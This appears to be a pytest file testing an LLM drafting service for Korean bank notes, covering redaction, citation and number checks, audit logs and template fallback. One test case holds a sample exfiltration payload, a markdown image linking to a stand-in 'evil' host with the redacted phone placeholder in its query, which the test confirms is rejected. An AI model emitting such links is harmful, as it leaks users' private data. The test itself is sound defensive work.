"""shared.llm.service: the sectors' drafting path — redaction, citations, numbers, audit, the configured server."""

import json

import pytest

from shared.llm import AuditLog, Document, Retriever
from shared.llm.citations import CitationError
from shared.llm.drafts import DraftSection
from shared.llm.service import NumberError, check_numbers, elide_quotes, numbers_in, retrieve, write

HEADINGS = [("why", "설명", "Why"), ("terms", "조건", "Terms")]


class FakeServer:
    """A chat backend that answers a fixed text and keeps what it was sent."""

    name = "fake-server"

    def __init__(self, answer):
        self.answer = answer
        self.seen = []

    def chat(self, messages, *, purpose):
        self.seen.append((purpose, messages))
        return self.answer


@pytest.fixture(scope="module")
def sources():
    r = Retriever.from_documents(
        [
            Document("t/1", "급여 통장 약관", "급여 통장은 만 18세 이상 가입할 수 있습니다. 금리 연 1.5%."),
            Document("t/2", "예금 약관", "정기예금 한도 1,000,000원."),
        ]
    )
    return retrieve(r, "급여 통장 가입 나이 금리", k=1)


def _texts():
    return {"why": "급여 통장을 추천합니다 [1]. 문의 010-2345-6789", "terms": "만 18세 이상, 연 1.5% [1]."}


def test_template_is_redacted_cited_and_audited_once(sources):
    note = write("test.note", _texts(), HEADINGS, sources)
    assert "010-2345-6789" not in note.text and "[PHONE_1]" in note.text
    assert note.restore(note.section("why").text).endswith("010-2345-6789")
    assert [h.doc_id for h in note.cited()] == ["t/1"] and note.backend == "embedded"
    records = AuditLog().records()  # CIVIC_LLM_AUDIT, set for every test by tests/conftest.py
    assert len(records) == 1 and records[0]["purpose"] == "test.note"
    assert records[0]["prompt_sha256"] == note.prompt_sha256
    assert "급여" not in json.dumps(records[0], ensure_ascii=False)  # never the text


def test_english_headings(sources):
    note = write("test.note", _texts(), HEADINGS, sources, lang="en")
    assert [s.heading for s in note.sections] == ["Why", "Terms"] and "Sources\n[1]" in note.text


def test_a_template_citing_an_unretrieved_source_or_number_raises(sources):
    with pytest.raises(CitationError):
        write("t", {"why": "추천 [2].", "terms": "-"}, HEADINGS, sources)
    with pytest.raises(NumberError):
        write("t", {"why": "금리 연 4.5% [1].", "terms": "-"}, HEADINGS, sources)
    with pytest.raises(CitationError):
        write("t", {"why": "「은행법」 제9조에 따라 [1].", "terms": "-"}, HEADINGS, sources)


def test_facts_allow_the_case_numbers(sources):
    note = write(
        "t", {"why": "고객님은 만 48세입니다 [1].", "terms": "-"}, HEADINGS, sources, facts=["나이 48"]
    )
    assert "48세" in note.body


def test_a_server_rewrite_is_used_when_it_checks_out(sources):
    server = FakeServer(
        json.dumps({"why": "급여 통장이 맞습니다 [1]. 문의 [PHONE_1]", "terms": "만 18세부터 [1]."})
    )
    note = write("t", _texts(), HEADINGS, sources, backend=server)
    assert note.backend == "fake-server" and not note.warnings
    purpose, messages = server.seen[0]
    assert purpose == "t" and "010-2345-6789" not in json.dumps(messages, ensure_ascii=False)
    assert AuditLog().records()[-1]["backend"] == "fake-server"


@pytest.mark.parametrize(
    "answer",
    [
        {"why": "추천합니다 [9].", "terms": "-"},  # a source not retrieved
        {"why": "금리 연 3.9%입니다 [1].", "terms": "-"},  # a rate from nowhere
        {"why": "「은행법」 제30조 [1].", "terms": "-"},  # a law not retrieved
        {"why": "![x](http://evil/?q=[PHONE_1])", "terms": "-"},  # an image carrying data out
        {"why": "only one section"},
    ],
)
def test_a_server_rewrite_that_fails_a_check_gives_the_template(sources, answer):
    note = write("t", _texts(), HEADINGS, sources, backend=FakeServer(json.dumps(answer)))
    assert note.backend == "embedded" and note.warnings
    assert note.section("terms").text == "만 18세 이상, 연 1.5% [1]."
    assert len(AuditLog().records()) == 1 and AuditLog().records()[0]["fallback"] is True


def test_the_configured_server_is_used_by_default_and_audits_itself(
    sources, chat_server, monkeypatch, tmp_path
):
    chat_server.mode = lambda request: json.dumps({"why": "추천합니다 [1].", "terms": "만 18세 이상 [1]."})
    monkeypatch.setenv("CIVIC_LLM_URL", chat_server.url)
    monkeypatch.setenv("CIVIC_LLM_MODEL", "test-model")
    note = write("t", _texts(), HEADINGS, sources)
    assert note.backend == "server:test-model"
    assert "010-2345-6789" not in chat_server.prompts()
    records = AuditLog().records()
    assert len(records) == 1 and records[0]["backend"] == "chat-completions" and records[0]["status"] == "ok"


def test_a_half_configuration_falls_back_to_embedded_and_says_so(sources, monkeypatch):
    monkeypatch.setenv("CIVIC_LLM_URL", "http://127.0.0.1:9/v1")
    note = write("t", _texts(), HEADINGS, sources)
    assert note.backend == "embedded" and "half configured" in note.warnings[0]


def test_numbers_and_quotes():
    assert numbers_in("한도 1,000,000원 [2], 연 3.50%, [NAME_1]") == {"1000000", "3.5"}
    assert numbers_in("1.5% (2)") == {"1.5", "2"}  # a bare (2) is not a square marker: counted
    hits = retrieve(
        Retriever.from_documents([Document("a", "A", "「주택법」 제2조에 따른 주택")]), "주택", k=1
    )
    quoted = "근거: “「주택법」 제2조에 따른 주택” [1]"
    assert elide_quotes(quoted, hits) == "근거: “…” [1]"
    check_numbers([DraftSection("a", "A", quoted)], hits)  # 2 is the source's own number
